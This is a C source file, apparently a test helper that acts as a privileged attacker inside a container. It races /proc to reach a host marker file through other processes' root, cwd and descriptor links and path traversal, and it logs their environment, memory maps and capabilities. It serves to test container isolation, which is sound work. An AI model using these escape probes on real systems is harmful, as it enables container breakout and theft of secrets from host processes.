/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* watcher MARKER: an attacker with CAP_SYS_PTRACE in a container. It polls /proc without a pause for processes that are half outside, tries to reach the
 * file MARKER, an absolute path of the host, through each of their root, cwd and descriptors, and writes a line for every new thing that it sees:
 *
 *   escape PATH      the marker was read by that path
 *   exe|root|cwd|fd|maps TEXT   where the link leads, or what is mapped
 *   environ TEXT     the environment has something
 *   capabilities HEX what a helper had in its permitted set
 *
 * A helper is a process whose program is not of this container: neither ours nor below /bin. "ready" comes first. On SIGTERM it writes "helpers N", how
 * many of them it saw, and ends. Linked statically, so that it runs in any root. */

#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define LINES_MAX 2048

static volatile sig_atomic_t ended;
static char *lines[LINES_MAX];
static unsigned n_lines, n_helpers;
static const char *marker;
static char own_exe[PATH_MAX], own_user[PATH_MAX];

static void on_signal(int number) {
        ended = 1;
}

/* Each line once. */
static void __attribute__((format(printf, 1, 2))) tell(const char *format, ...) {
        char line[PATH_MAX + 64];
        va_list arguments;

        va_start(arguments, format);
        (void) vsnprintf(line, sizeof line, format, arguments);
        va_end(arguments);
        for (unsigned i = 0; i < n_lines; i++)
                if (strcmp(lines[i], line) == 0)
                        return;
        if (n_lines == LINES_MAX)
                return;
        lines[n_lines++] = strdup(line);
        puts(line);
}

static bool read_link(int dir_fd, const char *name, char target[static PATH_MAX]) {
        ssize_t n = readlinkat(dir_fd, name, target, PATH_MAX - 1);

        target[n > 0 ? n : 0] = '\0';
        return n > 0;
}

static ssize_t read_text(int dir_fd, const char *name, char *text, size_t size) {
        int fd = openat(dir_fd, name, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
        ssize_t n = fd < 0 ? -1 : read(fd, text, size - 1);

        if (fd >= 0)
                (void) close(fd);
        text[n > 0 ? n : 0] = '\0';
        return n;
}

/* By the link itself, by what is above it, and by the first process of a procfs that it is. */
static void reach(int dir_fd, const char *pid, const char *link) {
        static const char *const ways[] = { "", "/../../../../../../../..", "/1/root", "/self/root", "/1/cwd" };

        for (size_t i = 0; i < sizeof ways / sizeof ways[0]; i++) {
                char path[PATH_MAX], text[64];

                (void) snprintf(path, sizeof path, "%s%s%s", link, ways[i], marker);
                if (read_text(dir_fd, path, text, sizeof text) > 0)
                        tell("escape /proc/PID/%s%s", link, ways[i]);
        }
}

static void look_at_link(int dir_fd, const char *pid, const char *name, const char *word) {
        char target[PATH_MAX];

        if (read_link(dir_fd, name, target))
                tell("%s %s", word, target);
        reach(dir_fd, pid, name);
}

static void look_at_descriptors(int dir_fd, const char *pid) {
        for (unsigned fd = 0; fd < 16; fd++) {
                char name[32];

                (void) snprintf(name, sizeof name, "fd/%u", fd);
                look_at_link(dir_fd, pid, name, "fd");
        }
}

static bool is_helper(int dir_fd) {
        char target[PATH_MAX];

        return read_link(dir_fd, "exe", target) && strcmp(target, own_exe) != 0 && strncmp(target, "/bin/", 5) != 0;
}

/* What was read is of the helper if it is one afterwards, too. */
static void look_at_texts(int dir_fd) {
        static char environment[65536], maps[65536], status[4096];
        char *line, *next, target[PATH_MAX];

        (void) read_text(dir_fd, "environ", environment, sizeof environment);
        (void) read_text(dir_fd, "maps", maps, sizeof maps);
        (void) read_text(dir_fd, "status", status, sizeof status);
        if (!is_helper(dir_fd))
                return;
        if (environment[0])
                tell("environ %s", environment);
        for (line = strtok_r(maps, "\n", &next); line; line = strtok_r(NULL, "\n", &next))
                if (strchr(line, '/'))
                        tell("maps %s", strchr(line, '/'));
        /* Those in a user namespace of its own are of no use to anybody. */
        if (read_link(dir_fd, "ns/user", target) && strcmp(target, own_user) == 0 && (line = strstr(status, "CapPrm:\t")))
                tell("capabilities %.16s", line + 8);
}

/* As long as it is one. */
static bool watch(const char *pid) {
        char path[NAME_MAX + 8];
        bool helper = false;
        int dir_fd;

        (void) snprintf(path, sizeof path, "/proc/%s", pid);
        dir_fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (dir_fd < 0)
                return false;
        while (!ended && is_helper(dir_fd)) {
                helper = true;
                look_at_descriptors(dir_fd, pid);
                look_at_link(dir_fd, pid, "root", "root");
                look_at_link(dir_fd, pid, "cwd", "cwd");
                look_at_link(dir_fd, pid, "exe", "exe");
                look_at_texts(dir_fd);
        }
        n_helpers += helper;
        (void) close(dir_fd);
        return true;
}

/* Numbers are given one after the other: who comes next is where the last one was. */
static unsigned watch_next(unsigned last) {
        for (unsigned pid = last + 1; pid <= last + 3; pid++) {
                char name[16];

                (void) snprintf(name, sizeof name, "%u", pid);
                if (watch(name))
                        return pid;
        }
        return last;
}

static unsigned watch_all(void) {
        DIR *proc = opendir("/proc");
        unsigned last = 0;

        for (const struct dirent *entry; proc && !ended && (entry = readdir(proc));) {
                unsigned pid = (unsigned) strtoul(entry->d_name, NULL, 10);

                if (pid == 0 || pid == (unsigned) getpid())
                        continue;
                (void) watch(entry->d_name);
                last = pid > last ? pid : last;
        }
        if (proc)
                (void) closedir(proc);
        return last;
}

int main(int argc, char **argv) {
        unsigned last = 0;

        if (argc != 2)
                return 2;
        marker = argv[1];
        (void) setvbuf(stdout, NULL, _IOLBF, 0);
        (void) signal(SIGTERM, on_signal);
        if (!read_link(AT_FDCWD, "/proc/self/exe", own_exe) || !read_link(AT_FDCWD, "/proc/self/ns/user", own_user))
                return 1;
        puts("ready");
        while (!ended) {
                last = watch_all();
                for (unsigned i = 0; i < 200 && !ended; i++)
                        last = watch_next(last);
        }
        printf("helpers %u\n", n_helpers);
        return 0;
}
